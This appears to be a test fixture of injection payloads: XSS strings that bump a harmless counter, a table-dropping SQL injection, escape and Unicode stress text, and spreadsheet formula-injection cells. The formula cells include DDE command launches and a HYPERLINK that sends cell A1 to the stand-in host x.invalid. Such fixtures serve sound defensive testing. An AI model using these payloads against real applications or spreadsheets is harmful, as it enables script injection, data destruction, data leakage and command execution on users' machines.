/** Hostile text: each payload would set window.__xss if it ran as script. */
export const RAN = 'window.__xss=(window.__xss||0)+1';
export const PAYLOADS = {
  img: `<img src=x onerror="${RAN}">`,
  script: `<script>${RAN}</script>`,
  sql: `Robert'); DROP TABLE young_person; --`,
  attr: `" autofocus onfocus="${RAN}" x="`,
  svg: `<svg onload="${RAN}">`,
  js: `javascript:${RAN}`,
  /** Backslashes, quotes of both kinds, escapes a careless JSON or SQL writer would interpret, and characters beyond ASCII. */
  text: `C:\\temp\\n \\x3cb\\x3e \\u003c '" Zoë Ångström 😀 名前 ¿`,
  /** Cells a spreadsheet would run as formulas. */
  formula: `=HYPERLINK("http://x.invalid/?"&A1,"Open")`,
  cmd: `=cmd|' /C calc'!A0`,
  plus: `+1+cmd|' /C calc'!A0`,
  minus: `-1+cmd|' /C calc'!A0`,
  at: `@SUM(1+1)*cmd|' /C calc'!A0`,
};
export const NAME = `${PAYLOADS.img}${PAYLOADS.sql}`;
